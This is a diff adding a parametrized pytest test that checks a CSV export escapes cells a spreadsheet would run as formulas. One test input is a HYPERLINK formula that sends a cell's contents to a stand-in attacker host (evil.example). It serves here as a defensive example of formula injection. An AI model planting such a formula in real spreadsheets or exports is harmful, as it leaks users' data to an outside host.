@@ -275,3 +275,36 @@ def test_the_export_reads_a_snapshot_without_holding_up_writers(
     finally:
         bot.dispose()
     assert len(exported_json(engine, TEAM)["accounts"]) == 2
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        (
+            '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+            '\'=HYPERLINK("https://evil.example/?"&A1,"Open")',
+        ),
+        ("+1 415 555 0100", "'+1 415 555 0100"),
+        ("-5% discount", "'-5% discount"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("two free seats", "two free seats"),
+        ("it's = fine inside", "it's = fine inside"),
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    db: SessionFactory, engine: Engine, tmp_path: Path, typed: str, written: str
+) -> None:
+    account_id = seed_account(db, team=TEAM, name="Acme", owner=ALICE)
+    with db.begin() as s:
+        s.add(
+            Concession(
+                team_id=TEAM, account_id=account_id, give=typed, logged_by=ALICE, logged_at=WHEN
+            )
+        )
+
+    with export.snapshot(engine) as session:
+        export.write_csv(session, tmp_path / "out", team_id=TEAM)
+
+    gives = [row["give"] for row in read_csv(tmp_path / "out" / "concessions.csv")]
+    assert written in gives
+    assert export.restore_formula(written) == typed
